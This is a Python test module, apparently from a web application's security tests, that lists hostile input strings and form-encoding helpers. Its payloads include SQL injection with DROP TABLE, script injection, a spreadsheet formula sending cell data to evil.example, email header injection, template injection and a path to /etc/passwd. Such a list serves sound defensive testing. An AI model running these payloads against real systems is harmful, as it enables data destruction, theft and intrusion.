"""What an attacker writes, and how it goes over the wire."""

import json
from urllib.parse import quote

MARK = "x-evil-1337"
PRODUCT = "1787569"
"""What a template language would make of {{1337*1337}}."""

WORDS = {
    "sql": "' OR 1=1; DROP TABLE cases_case;--",
    "html": f"<{MARK} onclick=alert(1)>\"'><script>{MARK}()</script>",
    "attribute": f'"><{MARK} autofocus onfocus="alert(1)',
    "entity": f"&lt;{MARK}&gt;</textarea><{MARK}></title><{MARK}>",
    "csv": '=HYPERLINK("http://evil.example/?"&A1)',
    "header": "王\r\nBcc: evil@example.cn\r\n\r\nbody",
    "template": "{{1337*1337}}{% load evil %}${1337*1337}#{1337*1337}",
    "format": "%s %(title)s %n {0} {x.__class__} %",
    "log": '\x1b[31m\n{"level": "ERROR", "message": "forged"}\n',
    "nul": "a\x00b",
    "surrogate": "a\ud800b\udfff",
    "direction": "\u202egpj.exe\u202c \u2066x",
    "no width": "z\u200be\u2060r\ufeffo",
    "path": "../../../../etc/passwd",
    "number": "9" * 5000,
    "full width": "９９９９９９９９９９９９",
    "fraction": "1e400",
    "moment": "0001-01-01T00:00:00+14:00",
    "late moment": "9999-12-31T23:59:59-12:00",
    "emoji": "👨‍👩‍👧‍👦" * 40,
    "long": "长" * 20_001,
}

CRASHING = {"nul", "surrogate", "number", "fraction", "moment", "late moment", "format", "long"}
"""Words that trouble programs: tried in each field alone, because one refused field hides the others."""

CHOICES = {
    "waybill_no",
    "category",
    "kind",
    "status",
    "validity",
    "happened_at",
    "at",
    "priority",
    "source",
    "score",
    "external_due_at",
    "promised_at",
    "valid_until",
    "phone",
    "email",
    "version",
    "user",
    "outlet",
    "freight_fen",
    "declared_value_fen",
    "carrier",
    "finding",
    "merchant",
}
"""Fields that only take a known value: left as they are while the others hold a word."""


def wire(text: str) -> str:
    """As part of an address or form; half surrogates travel as broken UTF-8."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def form(values: dict[str, str]) -> bytes:
    return "&".join(f"{wire(name)}={wire(value)}" for name, value in values.items()).encode()


def as_json(value: object) -> str:
    return json.dumps(value, ensure_ascii=True)


def is_executed(page: str) -> bool:
    """Whether something of ours stands in a page as markup, or was computed."""
    return f"<{MARK}" in page or PRODUCT in page or f"<script>{MARK}" in page
